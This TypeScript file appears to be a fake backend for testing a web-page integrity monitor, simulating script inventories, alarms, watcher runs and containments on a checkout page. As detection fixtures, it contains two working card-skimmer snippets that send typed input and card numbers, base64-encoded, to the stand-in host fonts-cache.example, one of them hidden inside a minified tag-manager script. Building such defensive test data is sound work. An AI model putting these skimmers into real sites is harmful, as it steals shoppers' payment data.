/**
 * Integrity from memory: pages, an inventory with the contents of its scripts, alarms, a watcher that runs, releases
 * and a kill switch whose frames stop one after the other. It decides nothing about rights.
 */
import { createHash } from 'node:crypto'
import type { Me } from '@candor/protocol/api.ts'
import type {
  Containment,
  ContainmentScope,
  IntegrityAlarm,
  IntegrityHome,
  InventoryScript,
  PageTemplate,
  Playbook,
  ReleaseRow,
  ScriptHash,
  ScriptState,
  WatchedPage,
  WatcherRun,
} from '@candor/protocol/integrity-api.ts'
import { Refusal } from '@candor/protocol/refusals.ts'
import type { FakeLog } from './fake-log.ts'

/** `quiet`: everything is approved. `alarms`: a skimmer and others. `new`: nothing was set up. `blind`: views, no reports. */
export type IntegrityStage = 'quiet' | 'alarms' | 'new' | 'blind'

export interface FakeIntegrity {
  answer(
    method: string,
    path: readonly string[],
    query: URLSearchParams,
    body: Record<string, unknown>,
    key: string,
  ): [number, unknown]
  /** An alarm is raised while somebody looks. */
  raise(change?: Partial<IntegrityAlarm>): IntegrityAlarm
  alarms(): readonly IntegrityAlarm[]
  scripts(): readonly InventoryScript[]
  containments(): readonly Containment[]
  watched(): readonly WatchedPage[]
  playbook(): Playbook
  /** Frames that stop with each time somebody asks. */
  stopping(frames: number): void
  /** Somebody else decides. */
  decided(alarm: string): void
}

const site = 'https://www.aurelia.example'
const checkout = `${site}/checkout/:id`
const cdn = 'https://cdn.tagworks.example'

export function openFakeIntegrity({
  me,
  accessLog,
  stage,
  now,
}: {
  me: Me
  accessLog: FakeLog
  stage: IntegrityStage
  now: number
}): FakeIntegrity {
  const ago = (minutes: number): string => iso(now - minutes * 60_000)
  const minutesOfDay = 1_440
  const bodies = new Map<string, string>()
  const kept = (text: string): string => {
    const hash = hashOf(text)
    bodies.set(hash, text)
    return hash
  }
  const owner = 'Team Web'
  const seen = (
    hash: string | null,
    state: ScriptState,
    fromMinutes: number,
    toMinutes: number,
    views: number,
    share: number,
  ): ScriptHash => ({
    hash,
    state,
    firstSeenAt: ago(fromMinutes),
    lastSeenAt: ago(toMinutes),
    views,
    share,
    approvedBy: state === 'approved' ? 'Ingrid Solberg' : null,
    bodyKept: hash !== null && bodies.has(hash),
  })
  const scriptOf = (
    n: number,
    template: string,
    url: string,
    state: ScriptState,
    justification: string | null,
    hashes: ScriptHash[],
  ): InventoryScript => ({
    id: uuid(0x5c00 + n),
    template,
    url,
    state,
    owner: justification === null ? null : owner,
    justification,
    approvedBy: state === 'approved' ? 'Ingrid Solberg' : null,
    approvedAt: state === 'approved' ? ago(30 * minutesOfDay) : null,
    firstSeenAt: hashes[0]!.firstSeenAt,
    lastSeenAt: hashes.at(-1)!.lastSeenAt,
    hashes,
  })

  const alarming = stage === 'alarms'
  const tagFirst = kept(tagScript(1, false))
  const tagSecond = kept(tagScript(2, false))
  const tagBad = kept(tagScript(2, true))
  const checkoutBody = kept('export function pay(form) {\n  return form.submit()\n}\n')

  const scripts: InventoryScript[] =
    stage === 'new' || stage === 'blind'
      ? []
      : [
          scriptOf(
            1,
            checkout,
            `${cdn}/t/aurelia.min.js`,
            'approved',
            'Measures how many visitors finish paying.',
            [
              seen(tagFirst, 'approved', 46 * minutesOfDay, 20 * minutesOfDay, 81_240, 0),
              seen(tagSecond, 'approved', 20 * minutesOfDay, 0, 62_933, alarming ? 0.93 : 1),
              ...(alarming ? [seen(tagBad, 'new' as const, 14, 0, 41, 0.07)] : []),
            ],
          ),
          scriptOf(2, checkout, `${site}/assets/checkout.js`, 'approved', 'The payment form itself.', [
            seen(checkoutBody, 'approved', 12 * minutesOfDay, 0, 40_112, 1),
          ]),
          scriptOf(
            3,
            checkout,
            'https://pay.vaultline.example/fields.js',
            'approved',
            'Card fields of our payment provider.',
            [seen(null, 'approved', 60 * minutesOfDay, 0, 102_000, 0.4)],
          ),
          ...(alarming
            ? [
                scriptOf(4, checkout, 'https://fonts-cache.example/w.js', 'new' as const, null, [
                  seen(
                    kept(
                      `(function(){var q=document.querySelectorAll("input");for(var i=0;i<q.length;i++){q[i].addEventListener("blur",function(e){navigator.sendBeacon("https://fonts-cache.example/i",btoa(e.target.value))})}})();`,
                    ),
                    'new' as const,
                    6,
                    0,
                    12,
                    0.04,
                  ),
                ]),
                scriptOf(
                  5,
                  checkout,
                  `${cdn}/old/ab.js`,
                  'refused' as const,
                  'An experiment that ended in June.',
                  [
                    seen(
                      'sha256-' + 'q'.repeat(43) + '=',
                      'refused' as const,
                      90 * minutesOfDay,
                      88 * minutesOfDay,
                      310,
                      0,
                    ),
                  ],
                ),
              ]
            : []),
          scriptOf(6, `${site}/`, `${site}/assets/site.js`, 'approved', 'Menus and search.', [
            seen(kept('console.log("Aurelia")\n'), 'approved', 12 * minutesOfDay, 0, 210_000, 1),
          ]),
        ]

  const page = (
    n: number,
    template: string,
    views24h: number,
    more: Partial<PageTemplate> = {},
  ): PageTemplate => ({
    id: uuid(0x9a00 + n),
    template,
    cardFields: false,
    cardFieldsApproved: false,
    firstSeenAt: ago(60 * minutesOfDay),
    lastSeenAt: ago(0),
    views24h,
    reportedAt: stage === 'blind' ? null : ago(0.3),
    reportingShare: stage === 'blind' ? 0 : 0.68,
    openAlarms: 0,
    ...more,
  })
  const pages: PageTemplate[] =
    stage === 'new'
      ? []
      : [
          page(1, checkout, 3_412, { cardFields: true, cardFieldsApproved: true }),
          page(2, `${site}/`, 28_930),
          page(3, `${site}/flights/:id/:id`, 17_204, { reportingShare: stage === 'blind' ? 0 : 0.71 }),
          page(4, `${site}/baggage`, 2_120),
          page(5, `${site}/gift-cards/buy`, 214, { cardFields: true }),
          page(6, `${site}/press/2019`, 3, { reportingShare: null }),
        ]

  let made = 0
  const alarmOf = (change: Partial<IntegrityAlarm> = {}): IntegrityAlarm => ({
    id: uuid(0xa1a0 + made++),
    kind: 'unknown-script',
    weight: 'finding',
    template: checkout,
    page: `${site}/checkout/QX1234`,
    script: 'https://fonts-cache.example/w.js',
    hash: scripts.find(({ url }) => url.endsWith('/w.js'))?.hashes[0]?.hash ?? null,
    what: 'A script that nobody approved runs on a page with card fields.',
    firstSeenAt: ago(6.2),
    lastSeenAt: ago(0.2),
    raisedAt: ago(6),
    views: 12,
    share: 0.04,
    sources: 9,
    state: 'open',
    by: null,
    at: null,
    containment: null,
    bodyKept: true,
    ...change,
  })
  const alarms: IntegrityAlarm[] = alarming
    ? [
        alarmOf(),
        alarmOf({
          kind: 'canary-seen',
          weight: 'proof',
          what: 'A card number that the watcher typed went to fonts-cache.example, in base64.',
          views: 0,
          share: null,
          sources: 1,
          raisedAt: ago(3),
          firstSeenAt: ago(3.1),
        }),
        alarmOf({
          kind: 'two-variants',
          standing: 'fetched',
          compared: { pageViews: 590, without: 549 },
          script: `${cdn}/t/aurelia.min.js`,
          hash: tagBad,
          what: '7 % of visitors got another content of aurelia.min.js than the rest, at the same time.',
          views: 41,
          share: 0.07,
          sources: 33,
          raisedAt: ago(13),
          firstSeenAt: ago(14),
        }),
        alarmOf({
          kind: 'reports-silent',
          weight: 'gap',
          template: `${site}/flights/:id/:id`,
          page: null,
          script: null,
          hash: null,
          what: 'Page views go on, and no browser has reported for 20 minutes.',
          views: 388,
          share: 1,
          sources: 120,
          bodyKept: false,
          raisedAt: ago(2),
        }),
        alarmOf({
          kind: 'headers-weakened',
          script: null,
          hash: null,
          bodyKept: false,
          what: 'The Content-Security-Policy lost its report-to.',
          state: 'dismissed',
          justification: 'The new proxy; Team Web puts the header back.',
          by: 'Ingrid Solberg',
          at: ago(600),
          firstSeenAt: ago(700.5),
          raisedAt: ago(700),
          lastSeenAt: ago(650),
        }),
      ]
    : []
  const openOf = (template: string): number =>
    alarms.filter((one) => one.state === 'open' && one.template === template).length

  const release = (
    n: number,
    version: string,
    publishedDaysAgo: number,
    more: Partial<ReleaseRow> = {},
  ): ReleaseRow => ({
    id: createHash('sha256').update(`release ${n}`).digest('base64url'),
    version,
    commit: createHash('sha1').update(version).digest('hex'),
    publishedAt: ago(publishedDaysAgo * minutesOfDay),
    expiresAt: iso(now + (7 - publishedDaysAgo) * 86_400_000),
    publishedEntry: accessLog.append({ type: 'release', outcome: 'published', what: version }),
    revokedAt: null,
    revokedEntry: null,
    attestations: 2,
    inForce: false,
    viewsLastHour: 0,
    ...more,
  })
  const releases: ReleaseRow[] =
    stage === 'new'
      ? []
      : [
          release(3, '0.1.2', 2, { inForce: true, viewsLastHour: 2_931 }),
          release(2, '0.1.1', 6, {
            revokedAt: ago(2 * minutesOfDay),
            revokedEntry: accessLog.append({ type: 'release', outcome: 'revoked', what: '0.1.1' }),
            viewsLastHour: alarming ? 4 : 0,
          }),
          release(1, '0.1.0', 9, { attestations: 1 }),
        ]

  const run = (n: number, change: Partial<WatcherRun> = {}): WatcherRun => ({
    id: uuid(0x3300 + n),
    page: `${site}/checkout/demo`,
    profile: 'desktop',
    startedAt: ago(n * 15 + 3),
    endedAt: ago(n * 15 + 2),
    outcome: 'clean',
    scripts: [
      { url: `${cdn}/t/aurelia.min.js`, hash: tagSecond },
      { url: `${site}/assets/checkout.js`, hash: checkoutBody },
    ],
    requests: 37,
    findings: [],
    ...change,
  })
  const runs: WatcherRun[] =
    stage === 'new' || stage === 'blind'
      ? []
      : [
          ...(alarming
            ? [
                run(0, {
                  profile: 'cart',
                  outcome: 'leaking',
                  findings: [
                    {
                      kind: 'script',
                      detail: 'Runs here and is not approved.',
                      url: 'https://fonts-cache.example/w.js',
                      proof: false,
                    },
                    {
                      kind: 'canary',
                      detail: 'Card number ending in 4242, base64, in the body of a beacon.',
                      url: 'https://fonts-cache.example/i',
                      proof: true,
                    },
                  ],
                }),
              ]
            : []),
          run(1, { profile: 'phone' }),
          run(2, {
            profile: 'night',
            outcome: 'failed',
            reason: 'The page did not answer for 30 seconds.',
            scripts: [],
            requests: 2,
          }),
          run(3),
          run(4, {
            profile: 'fresh',
            outcome: 'changed',
            findings: [
              {
                kind: 'header',
                detail: 'x-frame-options is gone.',
                url: `${site}/checkout/demo`,
                proof: false,
              },
            ],
          }),
        ]
  const watched: WatchedPage[] =
    runs.length === 0
      ? []
      : [
          {
            id: uuid(0x3a01),
            url: `${site}/checkout/demo`,
            profiles: ['desktop', 'phone', 'cart', 'night', 'fresh'],
            everyMinutes: 15,
            approvedHosts: ['pay.vaultline.example'],
            lastRun: runs[0]!,
          },
          {
            id: uuid(0x3a02),
            url: `${site}/gift-cards/buy`,
            profiles: ['desktop', 'fresh'],
            everyMinutes: 1_440,
            approvedHosts: [],
            lastRun: null,
          },
        ]

  let perAsk = 40
  const containments: Containment[] = alarming
    ? [
        {
          id: uuid(0xc001),
          scope: { kind: 'site', origin: 'https://old.aurelia.example' },
          reason: 'The old shop was taken over by a scanner.',
          alarm: null,
          by: 'Ingrid Solberg',
          startedAt: ago(3_000),
          entry: accessLog.append({ type: 'containment', outcome: 'begun', what: 'site' }),
          framesOpen: 31,
          framesStopped: 31,
          undoneAt: ago(2_900),
          undoneBy: 'Maya Lindqvist',
          undoneEntry: accessLog.append({ type: 'containment', outcome: 'undone', what: 'site' }),
        },
      ]
    : []
  let playbook: Playbook = {
    rules: alarming ? [{ kind: 'canary-seen', scope: 'template', sharePercentMin: 0 }] : [],
    webhook: alarming ? 'https://hooks.aurelia.example/candor' : null,
  }

  function contain(scope: ContainmentScope, reason: string, alarm: string | null, key: string): Containment {
    const one: Containment = {
      id: key,
      scope,
      reason,
      alarm,
      by: me.person.name,
      startedAt: iso(Date.now()),
      entry: accessLog.append({
        type: 'containment',
        outcome: 'begun',
        actor: { kind: 'agent', ...me.person },
        what: reason,
      }),
      framesOpen: 212,
      framesStopped: 0,
      undoneAt: null,
      undoneBy: null,
      undoneEntry: null,
    }
    containments.unshift(one)
    return one
  }

  /** Asked is stopped: what a desk sees of the frames in between. */
  function asked(): Containment[] {
    for (const one of containments)
      if (one.undoneAt === null) one.framesStopped = Math.min(one.framesOpen, one.framesStopped + perAsk)
    return containments
  }

  const home = (): IntegrityHome => {
    const views = Array.from({ length: 60 }, (_, i) =>
      stage === 'new' ? 0 : 38 + Math.round(14 * Math.sin(i / 7) + (i % 5)),
    )
    return {
      pages: pages.map((one) => ({ ...one, openAlarms: openOf(one.template) })),
      scripts: {
        total: scripts.length,
        new: scripts.filter(({ state }) => state === 'new').length,
        changed: scripts.filter(({ hashes }) => hashes.length > 1).length,
      },
      reporting: {
        headers: [
          'Reporting-Endpoints: candor="https://candor.example/v1/reports/t_8f3kq"',
          "Content-Security-Policy-Report-Only: script-src * 'unsafe-inline' 'unsafe-eval' 'report-sha256'; connect-src 'self' https://candor.example; report-to candor",
        ],
        lastReportAt: scripts.length === 0 ? null : iso(Date.now() - 18_000),
        share: scripts.length === 0 ? null : 0.68,
        viewsByMinute: views,
        reportsByMinute:
          scripts.length === 0 ? views.map(() => 0) : views.map((one) => Math.round(one * 0.68)),
      },
      watcher: { pages: watched.length, lastRun: runs[0] ?? null },
      alarms: alarms.filter(({ state }) => state === 'open'),
      containments: asked().filter(({ undoneAt }) => undoneAt === null),
      release: releases.find(({ inForce }) => inForce) ?? null,
    }
  }

  const find = <T extends { id: string }>(list: T[], id: string): T => {
    const found = list.find((one) => one.id === id)
    if (!found) throw new Refusal('not_found')
    return found
  }

  function decideAlarm(id: string, what: string, body: Record<string, unknown>, key: string): IntegrityAlarm {
    const alarm = find(alarms, id)
    if (what === 'approve' && String(body['justification'] ?? '') === '')
      throw new Refusal('invalid_field', 'An approval says why.', { field: 'justification' })
    const states: Record<string, IntegrityAlarm['state']> = {
      approve: 'approved',
      contain: 'contained',
      incident: 'incident',
      dismiss: 'dismissed',
    }
    if (what === 'contain')
      alarm.containment = contain(
        (body['scope'] as ContainmentScope | undefined) ?? { kind: 'template', template: alarm.template! },
        alarm.what,
        alarm.id,
        key,
      ).id
    if (what === 'approve' && alarm.hash !== null)
      for (const script of scripts)
        for (const one of script.hashes)
          if (one.hash === alarm.hash) Object.assign(one, { state: 'approved', approvedBy: me.person.name })
    return Object.assign(alarm, { state: states[what]!, by: me.person.name, at: iso(Date.now()) })
  }

  function decideScript(id: string, body: Record<string, unknown>): InventoryScript {
    const script = find(scripts, id)
    const state = body['state'] as ScriptState
    const approvedBy = state === 'approved' ? me.person.name : null
    const hash = body['hash']
    if (typeof body['owner'] === 'string') script.owner = body['owner']
    for (const one of script.hashes)
      if (hash === undefined ? one.state === 'new' : one.hash === hash)
        Object.assign(one, { state, approvedBy })
    if (hash === undefined || script.state === 'new')
      Object.assign(script, {
        state,
        justification: body['justification'],
        approvedBy,
        approvedAt: approvedBy === null ? null : iso(Date.now()),
      })
    return script
  }

  return {
    answer(method, path, query, body, key) {
      const [first = '', second = '', third = ''] = path
      switch (`${method} ${first}`) {
        case 'GET ':
          return [200, home()]
        case 'GET pages':
          return [200, { items: home().pages }]
        case 'GET scripts':
          return [
            200,
            {
              items: scripts.filter(
                ({ template }) => template === find(pages, query.get('template') ?? '').template,
              ),
            },
          ]
        case 'POST scripts': {
          if (second !== 'approve-template') return [200, decideScript(second, body)]
          const those = scripts.filter(
            ({ template }) => template === find(pages, String(body['template'])).template,
          )
          for (const script of those)
            if (script.state !== 'refused')
              decideScript(script.id, {
                state: 'approved',
                ...(script.owner === null && { owner: body['owner'] }),
                justification: script.justification ?? body['justification'],
              })
          return [200, { items: those }]
        }
        case 'GET alarms':
          return [200, { items: alarms.filter(({ state }) => state === query.get('state')) }]
        case 'POST alarms':
          return [200, decideAlarm(second, third, body, key)]
        case 'GET bodies': {
          const text = bodies.get(decodeURIComponent(second))
          if (text === undefined) throw new Refusal('not_found')
          return [200, text]
        }
        case 'GET evidence':
          if (query.get('format') === 'csv')
            return [
              200,
              ['page,script', ...scripts.map(({ template, url }) => `${template},${url}`)].join('\n'),
            ]
          return [200, JSON.stringify({ report: second, from: query.get('from'), to: query.get('to') })]
        case 'GET watched-pages':
          return [200, { items: watched }]
        case 'POST watched-pages': {
          if (third === 'run') {
            const one = find(watched, second)
            one.lastRun = run(0, { id: key, page: one.url, startedAt: iso(Date.now()), endedAt: null })
            runs.unshift(one.lastRun)
            return [202, one.lastRun]
          }
          const added = { id: key, lastRun: null, ...body } as unknown as WatchedPage
          watched.push(added)
          return [201, added]
        }
        case 'PUT watched-pages':
          return [200, Object.assign(find(watched, second), body)]
        case 'DELETE watched-pages':
          watched.splice(watched.indexOf(find(watched, second)), 1)
          return [204, null]
        case 'GET runs': {
          const of = query.get('page')
          const url = watched.find(({ id }) => id === of)?.url
          return [200, { items: of === null ? runs : runs.filter((one) => one.page === url) }]
        }
        case 'GET containments':
          return [200, { items: asked() }]
        case 'POST containments': {
          if (second === '')
            return [201, contain(body['scope'] as ContainmentScope, String(body['reason']), null, key)]
          const one = find(containments, second)
          return [
            200,
            Object.assign(one, {
              undoneAt: iso(Date.now()),
              undoneBy: me.person.name,
              undoneEntry: accessLog.append({
                type: 'containment',
                outcome: 'undone',
                what: String(body['reason']),
              }),
            }),
          ]
        }
        case 'GET playbook':
          return [200, playbook]
        case 'PUT playbook':
          if (typeof body['webhook'] === 'string' && body['webhook'].startsWith('http:'))
            throw new Refusal('invalid_field', 'A webhook is https, or an origin that the operator named.', {
              field: 'webhook',
            })
          {
            const first = playbook.webhook === null && body['webhook'] !== null
            playbook = body as unknown as Playbook
            return [200, first ? { ...playbook, secret: 'whsec_4f1c' } : playbook]
          }
        case 'POST playbook':
          return [201, { secret: 'whsec_9b2e' }]
        case 'GET releases':
          return [200, { items: releases }]
      }
      throw new Refusal('not_found', `${method} ${path.join('/')}`)
    },
    raise(change) {
      const alarm = alarmOf({ raisedAt: iso(Date.now()), firstSeenAt: iso(Date.now() - 8_000), ...change })
      alarms.unshift(alarm)
      return alarm
    },
    alarms: () => alarms,
    scripts: () => scripts,
    containments: () => containments,
    watched: () => watched,
    playbook: () => playbook,
    stopping: (frames) => void (perAsk = frames),
    decided(id) {
      Object.assign(find(alarms, id), { state: 'dismissed', by: 'Ingrid Solberg', at: iso(Date.now()) })
    },
  }
}

/** A tag manager's script as minifiers leave it: one line, half a thousand functions. */
function tagScript(version: number, skims: boolean): string {
  const parts = Array.from(
    { length: 420 },
    (_, i) =>
      `function f${i}(e,t){if(!e){return t||null}var n=e.split(".");for(var r=0;r<n.length;r++){t=t&&t[n[r]]}return t===undefined?${i * (version === 2 && i % 140 === 7 ? 3 : 1)}:t}`,
  )
  if (skims)
    parts.splice(
      211,
      0,
      'document.addEventListener("change",function(e){var t=e.target;if(t&&/card|cc-?num|cvc/i.test(t.name+t.autocomplete)){new Image().src="https://fonts-cache.example/i?"+btoa(t.value)}},true);',
    )
  return `/*! tag ${version}.0.0 <b>Tagworks</b> */!function(w,d){"use strict";${parts.join('')}w.tag={v:"${version}.0.0",get:f3,set:f5,host:"${skims ? 'fonts-cache.example' : 'tagworks.example'}"}}(window,document);`
}

const hashOf = (text: string): string => `sha256-${createHash('sha256').update(text).digest('base64')}`
const iso = (ms: number): string => new Date(ms).toISOString()
const uuid = (n: number): string => `018f0000-0000-7000-8000-${n.toString(16).padStart(12, '0')}`
